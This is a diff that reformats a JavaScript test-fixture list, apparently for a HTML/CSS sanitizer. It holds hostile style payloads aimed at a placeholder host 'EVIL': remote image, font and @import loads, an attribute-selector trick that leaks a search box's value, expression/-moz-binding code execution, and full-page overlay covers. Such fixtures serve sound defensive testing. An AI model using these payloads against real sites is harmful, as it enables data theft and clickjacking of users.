@@ -24,7 +24,10 @@ export const css = [
   ['picture in a variable', styled('--a:url(EVIL/a.png);background:var(--a)')],
   ['shape', styled('shape-outside:url(EVIL/a.png);float:left')],
   ['cover of the page', styled('position:fixed;inset:0;z-index:2147483647;background:#fff')],
-  ['cover that is a link', '<a href="https://example.org/" style="position:fixed;inset:0">words</a>'],
+  [
+    'cover that is a link',
+    '<a href="https://example.org/" style="position:fixed;inset:0">words</a>',
+  ],
   ['cover by a transformation', styled('transform:scale(999);transform-origin:0 0')],
   ['cover by a margin', styled('margin-top:-9999px;height:99999px')],
   ['cover by a shadow', styled('box-shadow:0 0 0 9999px #fff')],
@@ -38,7 +41,7 @@ export const css = [
   ['sheet that imports an address', sheet('@import url(EVIL/a.css);')],
   ['sheet that imports with escapes', sheet(String.raw`@\69mport "EVIL/a.css";`)],
   ['sheet with a picture', sheet('*{background:url(EVIL/a.png)!important}')],
-  ['sheet with a font', sheet("@font-face{font-family:a;src:url(EVIL/a.woff)}*{font-family:a}")],
+  ['sheet with a font', sheet('@font-face{font-family:a;src:url(EVIL/a.woff)}*{font-family:a}')],
   ['sheet that reads the box', sheet('#search[value^="a"]{background:url(EVIL/a)}')],
   ['sheet with a namespace', sheet('@namespace url(EVIL);*{color:red}')],
   ['sheet that runs', sheet('*{-moz-binding:url(EVIL);behavior:url(EVIL);width:expression(RUN)}')],
@@ -51,8 +54,14 @@ export const css = [
   ['sheet by an alternative link', '<link rel="alternate stylesheet" href="EVIL/a.css">words'],
   ['sheet as data', '<link rel=stylesheet href="data:text/css,*{display:none}">words'],
   ['sheet in a link header', '<meta http-equiv=Link content="<EVIL/a.css>; rel=stylesheet">words'],
-  ['sheet of Netscape', '<layer src="EVIL/a.html">words</layer><style type="text/javascript">RUN</style>'],
+  [
+    'sheet of Netscape',
+    '<layer src="EVIL/a.html">words</layer><style type="text/javascript">RUN</style>',
+  ],
   ['attribute of style by class', '<p class="spoken notices suggestions-place">words</p>'],
-  ['old presentation', '<table bgcolor=red width=99999 height=99999><td bgcolor="url(EVIL)">a</table>'],
+  [
+    'old presentation',
+    '<table bgcolor=red width=99999 height=99999><td bgcolor="url(EVIL)">a</table>',
+  ],
   ['old font', '<font face="url(EVIL)" size=999 color="expression(RUN)">words</font>'],
 ];
